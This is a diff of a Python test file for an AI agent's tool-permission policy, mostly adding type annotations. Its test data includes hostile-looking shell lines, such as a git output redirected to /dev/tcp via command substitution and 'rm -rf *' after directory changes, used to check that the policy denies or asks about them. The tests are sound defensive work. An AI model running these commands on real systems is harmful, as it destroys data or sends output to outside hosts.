@@ -12,8 +12,10 @@ from parachute.security.permissions.actions import ACTION_BY_NAME, ACTIONS
 from parachute.security.permissions.grants import Grant
 from parachute.security.permissions.models import Resource
 
+from .conftest import World
+
 ALWAYS = ["WebSearch", "Task", "Agent", "TodoWrite", "AskUserQuestion", "ToolSearch"]
-GUARDED = {
+GUARDED: dict[str, dict[str, object]] = {
     "Read": {"file_path": "notes.md"},
     "Glob": {"pattern": "*.md"},
     "Grep": {"pattern": "x"},
@@ -35,7 +37,7 @@ def test_every_guarded_tool_of_the_table_is_tested() -> None:
 
 
 @pytest.mark.parametrize("tool", GUARDED)
-def test_who_is_asked_and_who_is_not(world, tool: str) -> None:
+def test_who_is_asked_and_who_is_not(world: World, tool: str) -> None:
     confined = world.policy("sandboxed", trust_mode=False, working_directory=Path("/scratch/s"))
     assert confined.decide(tool, GUARDED[tool]).rule == "sandbox"
     assert world.policy().decide(tool, GUARDED[tool]).rule == "trust-mode"
@@ -44,12 +46,12 @@ def test_who_is_asked_and_who_is_not(world, tool: str) -> None:
 
 
 @pytest.mark.parametrize("tool", ALWAYS)
-def test_tools_that_are_always_allowed(world, tool: str) -> None:
+def test_tools_that_are_always_allowed(world: World, tool: str) -> None:
     for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
         assert policy.decide(tool, {}).effect == "allow"
 
 
-def test_a_tool_that_nobody_knows(world) -> None:
+def test_a_tool_that_nobody_knows(world: World) -> None:
     assert world.policy(trust_mode=False).decide("Launch", {}).effect == "ask"
     assert world.policy().decide("Launch", {}).effect == "deny"
     assert world.policy("sandboxed").decide("Launch", {}).effect == "deny"
@@ -77,13 +79,13 @@ def test_a_tool_that_nobody_knows(world) -> None:
     ],
 )
 def test_hard_rules_hold_at_every_level(
-    shared_world, level: str, trust: bool, tool: str, fields: dict[str, object]
+    shared_world: World, level: str, trust: bool, tool: str, fields: dict[str, object]
 ) -> None:
     grants = tuple(map(Grant.parse, ("Edit(/**)", "Bash(sudo:*)", "Bash(cat:*)")))
     assert shared_world.policy(level, trust_mode=trust, grants=grants).decide(tool, fields).effect == "deny"
 
 
-def test_searches_that_only_leave_secrets_out_are_fine(world) -> None:
+def test_searches_that_only_leave_secrets_out_are_fine(world: World) -> None:
     policy = world.policy()
     assert policy.decide("Grep", {"pattern": "x", "glob": "!.env"}).effect == "allow"
     assert policy.decide("Grep", {"pattern": "x", "glob": "*.{md,txt}", "path": None}).effect == "allow"
@@ -116,7 +118,7 @@ def test_searches_that_only_leave_secrets_out_are_fine(world) -> None:
         (7, {}),
     ],
 )
-def test_malformed_calls_are_denied_with_a_sentence(world, tool: object, fields: object) -> None:
+def test_malformed_calls_are_denied_with_a_sentence(world: World, tool: object, fields: object) -> None:
     for policy in (world.policy(), world.policy(trust_mode=False), world.policy("sandboxed")):
         decision = policy.decide(tool, fields)  # type: ignore[arg-type]
         assert decision.effect == "deny"
@@ -135,7 +137,7 @@ def test_malformed_calls_are_denied_with_a_sentence(world, tool: object, fields:
         ),
     ),
 )
-def test_every_call_gets_an_answer(shared_world, tool: str, fields: dict[str, object]) -> None:
+def test_every_call_gets_an_answer(shared_world: World, tool: str, fields: dict[str, object]) -> None:
     policy = shared_world.policy(trust_mode=False)
     decision = policy.decide(tool, fields)
     assert decision.rule != "failure"
@@ -184,19 +186,19 @@ def test_every_call_gets_an_answer(shared_world, tool: str, fields: dict[str, ob
         ("git log > $(echo /dev/tcp/example.org/80)", False),
     ],
 )
-def test_an_agents_list_of_commands(shared_world, line: str, allowed: bool) -> None:
+def test_an_agents_list_of_commands(shared_world: World, line: str, allowed: bool) -> None:
     for level in ("direct", "sandboxed"):
         policy = shared_world.policy(level, allowed_commands=("git", "npm"))
         assert policy.decide("Bash", {"command": line}).effect == ("allow" if allowed else "deny")
 
 
-def test_an_empty_list_of_commands_allows_none(world) -> None:
+def test_an_empty_list_of_commands_allows_none(world: World) -> None:
     policy = world.policy(allowed_commands=())
     assert policy.decide("Bash", {"command": "ls"}).rule == "agent-commands"
     assert policy.decide("Bash", {"command": "true"}).effect == "deny"
 
 
-def test_an_agents_list_of_tools(world) -> None:
+def test_an_agents_list_of_tools(world: World) -> None:
     policy = world.policy(allowed_tools=("Read", "Edit", "Task"))
     for tool, fields in (
         ("Read", GUARDED["Read"]),
@@ -210,7 +212,7 @@ def test_an_agents_list_of_tools(world) -> None:
     assert world.policy(allowed_tools=()).decide("TodoWrite", {}).effect == "deny"
 
 
-def test_who_may_not_run_commands_is_not_asked_about_them(world) -> None:
+def test_who_may_not_run_commands_is_not_asked_about_them(world: World) -> None:
     policy = world.policy(trust_mode=False, allowed_tools=("Read",))
     for line in ("$X y", "git status", "cd a; cd b; cd c; cd d; cd e; cd f; x"):
         assert policy.decide("Bash", {"command": line}).rule == "agent-tools"
@@ -219,13 +221,13 @@ def test_who_may_not_run_commands_is_not_asked_about_them(world) -> None:
 @pytest.mark.parametrize(
     "line", ["cd a; cd b; cd c; cd d; cd e; cd f; x", "cd /; (cd tmp); cd x; rm -rf *", "cd .. && rm -rf *"]
 )
-def test_where_a_line_may_be_is_not_guessed(world, line: str) -> None:
+def test_where_a_line_may_be_is_not_guessed(world: World, line: str) -> None:
     assert world.policy().decide("Bash", {"command": line}).rule == "unknown-command"
     assert world.policy(trust_mode=False).decide("Bash", {"command": line}).effect == "ask"
     assert world.policy("sandboxed").decide("Bash", {"command": line}).effect == "allow"
 
 
-def test_tools_of_servers_are_those_of_the_session_and_no_others(world) -> None:
+def test_tools_of_servers_are_those_of_the_session_and_no_others(world: World) -> None:
     search = "mcp__parachute__brain_search"
     for level, fields in (("sandboxed", {"working_directory": Path("/scratch/s")}), ("direct", {})):
         for trust in (True, False):
@@ -239,14 +241,14 @@ def test_tools_of_servers_are_those_of_the_session_and_no_others(world) -> None:
             assert world.policy(level, allowed_tools=(search,), **fields).decide(search, {}).effect == "deny"
 
 
-def test_an_unknown_level_or_a_relative_folder_is_an_error(world) -> None:
+def test_an_unknown_level_or_a_relative_folder_is_an_error(world: World) -> None:
     with pytest.raises(InvalidInput, match="sandboxed"):
         world.policy("full")
     with pytest.raises(InvalidInput, match="working_directory"):
         world.policy(working_directory=Path("Daily"))
 
 
-def test_a_policy_is_a_value(world) -> None:
+def test_a_policy_is_a_value(world: World) -> None:
     policy = world.policy()
     assert policy == world.policy()
     with pytest.raises(dataclasses.FrozenInstanceError):
@@ -254,7 +256,7 @@ def test_a_policy_is_a_value(world) -> None:
     assert dataclasses.replace(policy, trust_mode=False).decide("Read", GUARDED["Read"]).effect == "ask"
 
 
-def test_the_description_says_what_holds(world) -> None:
+def test_the_description_says_what_holds(world: World) -> None:
     grant = Grant.parse("Read(/Daily/*)")
     text = world.policy(
         trust_mode=False, grants=(grant,), allowed_commands=("git",), allowed_tools=("Read",)
